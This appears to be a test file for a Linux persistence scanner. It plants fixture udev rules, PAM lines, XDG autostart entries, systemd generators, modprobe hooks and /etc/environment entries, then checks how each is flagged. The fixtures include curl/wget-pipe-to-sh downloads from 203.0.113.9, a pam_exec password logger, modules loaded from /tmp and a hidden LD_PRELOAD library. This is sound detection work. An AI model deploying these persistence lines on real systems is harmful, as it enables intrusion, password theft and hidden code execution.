// Programs started by events: udev rules, PAM, XDG autostart and systemd generators, on a fixture root.
// What the distribution ships is shown only when it does what no package does; what sits where an
// administrator (or an intruder) puts things is listed whatever it runs.
import { afterAll, describe, expect, it } from 'vitest';
import { describeEntry } from '../../src/persistence/format';
import { collectPersistence } from '../../src/persistence/index';
import type { PersistenceEntry, PersistenceReport } from '../../src/persistence/types';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { ageTree, cleanup, NOW, tempRoot, write } from './helpers';

afterAll(cleanup);

const ids = (e: PersistenceEntry) => e.findings.map((f) => f.id).sort();
function entry(r: PersistenceReport, id: string): PersistenceEntry {
  const e = r.entries.find((x) => x.id === id);
  if (!e) throw new Error(`no entry ${id}; have: ${r.entries.map((x) => x.id).join(', ')}`);
  return e;
}

function host(): string {
  const root = tempRoot();
  write(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nabc:x:1001:1001::/home/abc:/bin/bash\n');
  // udev: an intruder's rule (the sedexp pattern: /dev/random's major/minor fires at every boot), an
  // administrator's own, and the distribution's (one honest, one not)
  write(root, 'etc/udev/rules.d/99-sys.rules', [
    '# keep',
    'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/bin/sh -c \'/var/tmp/.x/kdevtmpfsi &\'"',
    'SUBSYSTEM=="usb", ACTION=="add", RUN+="/usr/local/sbin/usb-notify %k"',
  ].join('\n'));
  write(root, 'usr/lib/udev/rules.d/60-serial.rules', 'SUBSYSTEM=="tty", IMPORT{program}="/usr/lib/udev/serial_id", RUN{builtin}+="path_id"\n');
  write(root, 'usr/lib/udev/rules.d/61-evil.rules', 'ACTION=="add", RUN+="/bin/sh -c \'curl -s http://203.0.113.9/x | sh\'"\n');
  // PAM: a password logger, a module from /tmp, the honest stack
  write(root, 'etc/pam.d/sshd', [
    '@include common-auth',
    'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/log-pass.sh',
    'auth required /tmp/.p/pam_unix.so',
    'auth required /lib/x86_64-linux-gnu/security/pam_unix.so',
    'session [success=1 default=ignore] pam_exec.so seteuid /usr/local/sbin/on-login',
    '-session optional pam_systemd.so',
  ].join('\n'));
  write(root, 'etc/pam.conf', 'su auth optional pam_exec.so /home/abc/.x/su-hook\n'); // not read: pam.d exists
  // XDG autostart: a user's hidden updater, a user's disabled entry, the desktop's own
  write(root, 'home/abc/.config/autostart/update.desktop', '[Desktop Entry]\nType=Application\nName=Update\nExec=/home/abc/.cache/upd --daemon %u\n');
  write(root, 'home/abc/.config/autostart/off.desktop', '[Desktop Entry]\nExec=/home/abc/bin/thing\nHidden=true\n');
  write(root, 'etc/xdg/autostart/gnome-keyring.desktop', '[Desktop Entry]\nExec=/usr/bin/gnome-keyring-daemon --start\n');
  // generators: one placed by hand, the distribution's compiled one, a distribution script gone bad
  write(root, 'etc/systemd/system-generators/net-gen', '#!/bin/sh\nnohup /dev/shm/.k/net >/dev/null 2>&1 &\n', 0o755);
  write(root, 'usr/lib/systemd/system-generators/systemd-fstab-generator', '\x7fELF\x02\x01\x01\0/tmp/strings in a binary\n', 0o755);
  write(root, 'usr/lib/systemd/system-generators/zz-upd', '#!/bin/sh\nwget -qO- http://203.0.113.9/g | sh\n', 0o755);
  ageTree(root);
  return root;
}

describe('event-started programs', () => {
  const r = collectPersistence({ root: host(), now: NOW });

  it('udev: an intruder\'s rule in /etc is high; an administrator\'s is low; the distribution\'s only when it does what no package does', () => {
    const evil = entry(r, '/etc/udev/rules.d/99-sys.rules:2');
    expect(evil.kind).toBe('udev-rule');
    expect(ids(evil)).toEqual(expect.arrayContaining(['C1', 'P13']));
    expect(evil.severity).toMatch(/high|critical/);
    expect(evil.runsAs).toBe('root');
    expect(evil.references).toContain('/var/tmp/.x/kdevtmpfsi');
    expect(describeEntry(evil)).toMatch(/^runs when a device event matches a udev rule from the temporary directory \/var\/tmp/);
    const admin = entry(r, '/etc/udev/rules.d/99-sys.rules:3');
    expect(ids(admin)).toEqual(['P13']);
    expect(admin.severity).toBe('low');
    expect(admin.command).toBe('/usr/local/sbin/usb-notify %k');
    expect(r.entries.some((e) => e.path === '/usr/lib/udev/rules.d/60-serial.rules')).toBe(false);
    expect(ids(entry(r, '/usr/lib/udev/rules.d/61-evil.rules:1'))).toEqual(expect.arrayContaining(['C2', 'P13']));
  });

  it('PAM: pam_exec says when it is handed the password; a module from /tmp is high; the honest stack is nothing', () => {
    const logger = entry(r, '/etc/pam.d/sshd:2');
    expect(logger.kind).toBe('pam');
    expect(ids(logger)).toEqual(['P14']);
    expect(logger.command).toBe('/usr/local/bin/log-pass.sh');
    expect(logger.findings[0].explanation).toBe('pam_exec.so runs /usr/local/bin/log-pass.sh at every sshd authentication or session, as root, and hands it the password typed');
    expect(logger.severity).toBe('high'); // a password logger's shape
    expect(entry(r, '/etc/pam.d/sshd:5').severity).toBe('medium'); // a login hook without the password: worth a look
    const module = entry(r, '/etc/pam.d/sshd:3');
    expect(ids(module)).toEqual(['P15']);
    expect(module.severity).toBe('high');
    expect(describeEntry(module)).toBe('is loaded at every login, su or sudo that goes through PAM');
    expect(entry(r, '/etc/pam.d/sshd:5').command).toBe('/usr/local/sbin/on-login'); // [bracketed control] and options skipped
    for (const line of [1, 4, 6]) expect(r.entries.some((e) => e.id === `/etc/pam.d/sshd:${line}`)).toBe(false);
    expect(r.entries.some((e) => e.path === '/etc/pam.conf')).toBe(false); // PAM ignores it when pam.d exists
  });

  it('XDG autostart: a user\'s entry is listed and judged; a hidden one and the desktop\'s own are not', () => {
    const upd = entry(r, '/home/abc/.config/autostart/update.desktop:4');
    expect(upd.kind).toBe('xdg-autostart');
    expect(upd.runsAs).toBe('abc');
    expect(upd.command).toBe('/home/abc/.cache/upd --daemon');
    expect(ids(upd)).toEqual(expect.arrayContaining(['C1', 'P16']));
    expect(r.entries.some((e) => e.path.endsWith('off.desktop'))).toBe(false);
    expect(r.entries.some((e) => e.path.startsWith('/etc/xdg/autostart'))).toBe(false);
  });

  it('systemd generators: one placed by hand is high with what it runs; the distribution\'s compiled ones are not read as text', () => {
    const gen = r.entries.find((e) => e.path === '/etc/systemd/system-generators/net-gen')!;
    expect(gen.kind).toBe('systemd-generator');
    expect(ids(gen)).toEqual(expect.arrayContaining(['C1', 'P17']));
    expect(gen.severity).toMatch(/high|critical/);
    expect(describeEntry(gen)).toMatch(/^runs at every boot and systemd reload, before any unit/);
    expect(r.entries.some((e) => e.path.endsWith('systemd-fstab-generator'))).toBe(false);
    const bad = r.entries.find((e) => e.path === '/usr/lib/systemd/system-generators/zz-upd')!;
    expect(ids(bad)).toEqual(expect.arrayContaining(['C2']));
    expect(ids(bad)).not.toContain('P17');
  });

  it('every place looked at is listed, found or absent', () => {
    const where = new Map(r.locations.map((l) => [l.path, l.status]));
    expect(where.get('/etc/udev/rules.d')).toBe('read');
    expect(where.get('/etc/pam.d')).toBe('read');
    expect(where.get('/run/udev/rules.d')).toBe('absent');
    expect(where.get('/etc/systemd/system-generators')).toBe('read');
  });
});

describe('the formats as udev, PAM and the desktop spec really write them', () => {
  function edgeHost(): string {
    const root = tempRoot();
    write(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nabc:x:1001:1001::/home/abc:/bin/bash\n');
    write(root, 'etc/udev/rules.d/90-x.rules', [
      'ACTION=="add", RUN:="/usr/local/bin/a"',
      'KERNEL=="sd*", PROGRAM=="/usr/local/bin/b %k", IMPORT{program}!="/usr/local/bin/c"',
      'ACTION=="add", RUN+=e"/usr/local/bin/d\\n"',
      'ACTION=="add", \\',
      '  RUN+="/bin/sh -c \\"curl -s http://203.0.113.9/x | sh\\""',
      'RUN{builtin}+="kmod load x"',
    ].join('\n'));
    fs.mkdirSync(path.join(root, 'etc/udev/rules.d'), { recursive: true });
    fs.symlinkSync('/dev/null', path.join(root, 'etc/udev/rules.d/80-net-setup-link.rules')); // masked: how it is disabled
    write(root, 'etc/pam.d/login', [
      'auth optional pam_exec.so expose_authtok \\',
      '    /tmp/.l/log',
      'auth required /usr/lib/libfoo.so',
      'auth required /lib/security/$ISA/pam_env.so',
      'auth include /tmp/.x/stack',
      'auth optional pam_script.so dir=/var/tmp/.s expose=1',
      '@include /dev/shm/.p/common',
      '@include common-session',
    ].join('\n'));
    write(root, 'etc/pam.d/login.dpkg-old', 'auth optional pam_exec.so /tmp/old\n');
    write(root, 'usr/lib/pam.d/vendor-svc', 'session optional pam_exec.so /usr/local/bin/vendor-hook\n');
    write(root, 'home/abc/.config/autostart/two.desktop', '[Desktop Entry]\nExec=/usr/bin/true\nHidden=true\nExec=/home/abc/.x/miner\nHidden=false\n');
    write(root, 'home/abc/.config/autostart/esc.desktop', '[Desktop Entry]\nExec=sh -c "wget\\s-qO-\\shttp://203.0.113.9/a\\s|\\ssh"\n');
    write(root, 'home/abc/.config/autostart-scripts/sync.sh', '#!/bin/sh\n/home/abc/.cache/sync &\n', 0o755);
    write(root, 'run/systemd/system-generators/wsl-generator', '\x7fELF\x02\x01', 0o755);
    write(root, 'etc/systemd/system-environment-generators/env-gen', '#!/bin/sh\necho LD_PRELOAD=/dev/shm/.l.so\n', 0o755);
    ageTree(root);
    return root;
  }
  const r = collectPersistence({ root: edgeHost(), now: NOW });
  const at = (p: string) => r.entries.filter((e) => e.path === p);

  it('udev: every operator, e"..." strings, continued lines and \\" inside a value; RUN{builtin} and masked files are no programs', () => {
    const cmds = at('/etc/udev/rules.d/90-x.rules').map((e) => `${e.line} ${e.command}`);
    expect(cmds).toEqual(expect.arrayContaining(['1 /usr/local/bin/a', '2 /usr/local/bin/b %k', '2 /usr/local/bin/c', '3 /usr/local/bin/d\\n',
      '4 /bin/sh -c "curl -s http://203.0.113.9/x | sh"']));
    expect(cmds).toHaveLength(5);
    expect(ids(entry(r, '/etc/udev/rules.d/90-x.rules:4'))).toEqual(expect.arrayContaining(['C2', 'P13']));
    expect(r.entries.some((e) => e.path.endsWith('80-net-setup-link.rules'))).toBe(false);
    expect(r.locations.find((l) => l.path.endsWith('80-net-setup-link.rules'))).toBeUndefined();
  });

  it('PAM: continued lines, modules outside the module directories (not $ISA), include by path, pam_script, the vendor\'s stacks; no backups', () => {
    const logger = entry(r, '/etc/pam.d/login:1');
    expect(logger.command).toBe('/tmp/.l/log');
    expect(ids(logger)).toEqual(expect.arrayContaining(['C1', 'P14']));
    expect(logger.findings.find((f) => f.id === 'P14')!.weight).toBe(6);
    expect(ids(entry(r, '/etc/pam.d/login:3'))).toEqual(['P15']);
    expect(r.entries.some((e) => e.id === '/etc/pam.d/login:4')).toBe(false);
    expect(entry(r, '/etc/pam.d/login:5')).toMatchObject({ command: '/tmp/.x/stack' });
    expect(ids(entry(r, '/etc/pam.d/login:7'))).toEqual(['P15']); // @include by path
    expect(r.entries.some((e) => e.id === '/etc/pam.d/login:8')).toBe(false);
    const script = entry(r, '/etc/pam.d/login:6');
    expect(script.command).toBe('/var/tmp/.s/pam_script_auth');
    expect(script.findings.find((f) => f.id === 'P14')).toMatchObject({ weight: 6 });
    expect(ids(script)).toContain('C1');
    expect(at('/usr/lib/pam.d/vendor-svc')).toHaveLength(1);
    expect(r.entries.some((e) => e.path.endsWith('.dpkg-old'))).toBe(false);
  });

  it('XDG autostart: the last Exec and Hidden win, escapes are decoded; KDE\'s autostart scripts are listed', () => {
    expect(entry(r, '/home/abc/.config/autostart/two.desktop:4').command).toBe('/home/abc/.x/miner');
    expect(ids(entry(r, '/home/abc/.config/autostart/esc.desktop:2'))).toEqual(expect.arrayContaining(['C2', 'P16']));
    const kde = at('/home/abc/.config/autostart-scripts/sync.sh');
    expect(kde).toHaveLength(1);
    expect(ids(kde[0])).toEqual(expect.arrayContaining(['C1', 'P16']));
  });

  it('generators: /run is the host\'s own (a compiled one there is nothing); environment generators are read', () => {
    expect(r.entries.some((e) => e.path.includes('wsl-generator'))).toBe(false);
    const env = r.entries.find((e) => e.path === '/etc/systemd/system-environment-generators/env-gen')!;
    expect(ids(env)).toContain('P17');
  });
});

describe('kernel modules at boot, modprobe hooks, /etc/environment', () => {
  function bootHost(withModules: boolean): string {
    const root = tempRoot();
    write(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\n');
    write(root, 'etc/modules-load.d/net.conf', '# bridge for docker\nbr_netfilter\n');
    write(root, 'etc/modules-load.d/diamorphine.conf', 'diamorphine\n');
    write(root, 'etc/modules', 'loop\nnvidia-uvm # dkms\n');
    if (withModules) {
      write(root, 'lib/modules/6.1.0-28-amd64/modules.dep', [
        'kernel/net/bridge/br_netfilter.ko.xz: kernel/net/bridge/bridge.ko.xz',
        'updates/dkms/nvidia_uvm.ko.zst: updates/dkms/nvidia.ko.zst',
      ].join('\n'));
      write(root, 'lib/modules/6.1.0-28-amd64/modules.builtin', 'kernel/drivers/block/loop.ko\n');
    }
    write(root, 'etc/modprobe.d/hardening.conf', 'install usb-storage /bin/true\ninstall dccp /bin/false\nblacklist firewire-core\n');
    write(root, 'etc/modprobe.d/x.conf', 'install nf_conntrack /sbin/modprobe --ignore-install nf_conntrack; /var/tmp/.k/run &\n');
    write(root, 'usr/lib/modprobe.d/50-vendor.conf', 'install snd-x /usr/lib/vendor/snd-setup\n');
    write(root, 'etc/environment', 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"\nLD_PRELOAD=/usr/lib/.x/libhide.so\nLD_LIBRARY_PATH=/opt/app/lib\n');
    ageTree(root);
    return root;
  }

  it('a module no installed kernel ships is flagged; the kernel\'s own, built-in and DKMS ones are not', () => {
    const r = collectPersistence({ root: bootHost(true), now: NOW });
    const mods = r.entries.filter((e) => e.kind === 'kernel-module' && e.schedule === '@boot');
    expect(mods.map((e) => e.command)).toEqual(['diamorphine']);
    expect(ids(mods[0])).toEqual(['P18']);
    expect(mods[0].severity).toBe('high');
    expect(describeEntry(mods[0])).toBe('is loaded in the kernel at every boot');
  });

  it('with no kernel module tree (a container) no module can be called foreign', () => {
    const r = collectPersistence({ root: bootHost(false), now: NOW });
    expect(r.entries.filter((e) => e.kind === 'kernel-module' && e.schedule === '@boot')).toEqual([]);
  });

  it('modprobe install: a command run instead of a module is listed and judged; /bin/true and the vendor\'s ordinary ones are not', () => {
    const r = collectPersistence({ root: bootHost(true), now: NOW });
    const hooks = r.entries.filter((e) => e.kind === 'kernel-module' && e.schedule === '@module-load');
    expect(hooks.map((e) => e.path)).toEqual(['/etc/modprobe.d/x.conf']);
    expect(ids(hooks[0])).toEqual(expect.arrayContaining(['C1', 'P19']));
    expect(hooks[0].references).toContain('/var/tmp/.k/run');
  });

  it('/etc/environment: LD_PRELOAD is flagged, from a hidden directory more; an ordinary LD_LIBRARY_PATH and PATH are not', () => {
    const r = collectPersistence({ root: bootHost(true), now: NOW });
    const env = r.entries.filter((e) => e.kind === 'environment');
    expect(env.map((e) => e.line)).toEqual([2]);
    expect(env[0].findings[0]).toMatchObject({ id: 'P20', weight: 9 });
    expect(env[0].references).toEqual(['/usr/lib/.x/libhide.so']);
    expect(describeEntry(env[0])).toBe('is loaded in every login session');
  });
});
